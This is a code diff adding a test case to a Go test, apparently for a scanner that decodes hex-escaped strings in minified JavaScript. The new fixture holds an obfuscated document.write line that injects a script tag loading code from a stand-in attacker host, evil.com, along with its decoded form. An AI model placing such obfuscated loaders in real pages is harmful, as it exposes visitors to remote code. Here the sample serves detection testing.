@@ -50,6 +50,14 @@ func TestSpansExact(t *testing.T) {
 				{Start: 14, End: 18, Text: []byte("a"), Chain: []Family{HexEscape}},
 			},
 		},
+		{
+			// The apostrophe in the regular expression opens a "literal" that is the code up
+			// to the apostrophe inside the loader's string: that string runs past it, on its
+			// line, and is read whole (minified code is one line).
+			name: "a string past a quote in a regular expression",
+			in:   `s=s.replace(/'/g,"&#39;");document.write("<script src='\x68ttps://\x65vil.com/a.js'><\/script>");`,
+			want: []Span{{Start: 42, End: 94, Text: []byte("<script src='https://evil.com/a.js'></script>"), Chain: []Family{HexEscape}}},
+		},
 		{name: "plain code", in: `function f(a, b) { return a + "b" + 'c'.length; }`},
 		{name: "empty", in: ``},
 	}
